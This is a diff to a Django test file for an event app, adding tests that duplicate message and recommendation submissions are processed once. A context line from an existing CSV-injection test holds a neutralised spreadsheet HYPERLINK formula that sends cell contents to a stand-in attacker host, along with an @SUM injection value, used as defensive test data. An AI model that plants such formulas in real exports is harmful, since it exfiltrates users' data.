@@ -318,3 +318,31 @@ def test_a_formula_for_a_name_is_neutralised_in_the_attendance_csv(organisation,
     assert body.splitlines()[1] == (
         '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Cliquez ici"")";evil@example.org;\'@SUM(1+1);;;absent·e'
     )
+
+
+@pytest.mark.django_db
+def test_a_double_clicked_message_is_sent_once(
+    organisation, organiser_client, register, django_capture_on_commit_callbacks
+):
+    event = EventFactory(organisation=organisation)
+    SessionFactory(event=event)
+    confirm(register(event, email="one@example.org").participant)
+    mail.outbox.clear()
+    url = reverse("events:message", args=[event.pk])
+    data = {"audience": "event", "subject": "Salle", "body": "Salle 2", FIELD_NAME: new_key()}
+    with django_capture_on_commit_callbacks(execute=True):
+        organiser_client.post(url, data)
+        response = organiser_client.post(url, data, follow=True)
+    assert [str(m) for m in response.context["messages"]][-1] == "Ce message a déjà été envoyé à 1 personnes."
+    assert [m.subject for m in mail.outbox] == [f"{event.title_fr}: Salle"]
+
+
+@pytest.mark.django_db
+def test_a_new_recommendation_is_saved_once_per_key(organisation, organiser_client):
+    event = EventFactory(organisation=organisation)
+    url = reverse("events:recommendations", args=[event.pk])
+    data = {"position": 1, "diagnosis": "Constat", "recommendation": "Agir", FIELD_NAME: new_key()}
+    organiser_client.post(url, data)
+    response = organiser_client.post(url, data, follow=True)
+    assert [str(m) for m in response.context["messages"]][-1] == "Cette recommandation était déjà enregistrée."
+    assert event.recommendations.count() == 1
